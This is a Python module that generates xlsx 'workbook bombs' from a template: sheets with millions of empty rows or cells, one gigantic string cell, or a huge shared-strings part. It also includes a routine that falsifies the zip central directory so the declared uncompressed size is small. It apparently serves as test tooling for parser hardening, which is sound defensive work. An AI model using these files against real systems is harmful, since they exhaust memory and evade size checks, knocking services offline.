"""Workbook bombs built from a real template, written in streaming so that building one stays small.

Each bomb replaces one sheet's XML inside the template's zip (and may add a shared-strings part);
the big part is written chunk by chunk into the zip, never held whole in memory.
"""

import struct
import zipfile

MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHARED_STRINGS_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
MB = 1024 * 1024
_CHUNK = MB


def header_row(headers):
    cells = "".join(f'<c t="inlineStr"><is><t>{header}</t></is></c>' for header in headers)
    return f'<row r="1">{cells}</row>'.encode()


def repeated(piece, total_bytes):
    """`piece` repeated until about `total_bytes`, in chunks of about a megabyte."""
    chunk = piece * max(1, _CHUNK // len(piece))
    for _ in range(max(1, total_bytes // len(chunk))):
        yield chunk


def sheet_xml(header, body, closing=b""):
    yield f'<worksheet xmlns="{MAIN_NS}"><sheetData>'.encode() + header
    yield from body
    yield closing + b"</sheetData></worksheet>"


def empty_rows(header, total_bytes):
    """The header row followed by `<row/>` until the sheet is about `total_bytes` long."""
    return sheet_xml(header, repeated(b"<row/>", total_bytes))


def empty_cells(header, rows, cells_per_row):
    row = b"<row>" + b"<c/>" * cells_per_row + b"</row>"
    return sheet_xml(header, (row * 1000 for _ in range(rows // 1000)))


def huge_cell(header, total_bytes):
    """The header row, then one inline-string cell holding `total_bytes` characters."""
    opening = b'<row r="2"><c r="A2" t="inlineStr"><is><t>'
    return sheet_xml(header, [opening, *repeated(b"A", total_bytes)], b"</t></is></c></row>")


def shared_string_cell(header):
    return sheet_xml(header, [b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>'])


def huge_shared_string(total_bytes):
    yield f'<sst xmlns="{MAIN_NS}" count="1" uniqueCount="1"><si><t>'.encode()
    yield from repeated(b"A", total_bytes)
    yield b"</t></si></sst>"


def write_bomb(template, target, sheet, sheet_chunks, shared_strings=None):
    """Copy the template's zip to `target` (a path or file), with `sheet` replaced by the chunks.

    `shared_strings`, when given, is written as xl/sharedStrings.xml and declared in the
    content types, as Excel does, so that a reader would load it.
    """
    with zipfile.ZipFile(template) as source, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            if info.filename == sheet:
                continue
            data = source.read(info)
            if shared_strings is not None and info.filename == "[Content_Types].xml":
                override = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SHARED_STRINGS_TYPE}"/>'
                data = data.replace(b"</Types>", override.encode() + b"</Types>")
            bomb.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
        _write_streaming(bomb, sheet, sheet_chunks)
        if shared_strings is not None:
            _write_streaming(bomb, "xl/sharedStrings.xml", shared_strings)


def _write_streaming(bomb, name, chunks):
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with bomb.open(info, "w", force_zip64=True) as part:
        for chunk in chunks:
            part.write(chunk)


def understate_size(path, name, declared):
    """Rewrite the central directory so that it claims `name` expands to only `declared` bytes."""
    with zipfile.ZipFile(path) as archive:
        directory_offset = archive.start_dir
    with open(path, "r+b") as handle:
        handle.seek(directory_offset)
        directory = handle.read()
        position = 0
        while True:
            position = directory.index(b"PK\x01\x02", position)
            name_length = struct.unpack_from("<H", directory, position + 28)[0]
            if directory[position + 46 : position + 46 + name_length] == name.encode():
                break
            position += 4
        # Below 2 GiB the directory holds the size in its plain 32-bit field, not in a zip64 extra.
        assert struct.unpack_from("<I", directory, position + 24)[0] != 0xFFFFFFFF
        handle.seek(directory_offset + position + 24)
        handle.write(struct.pack("<I", declared))
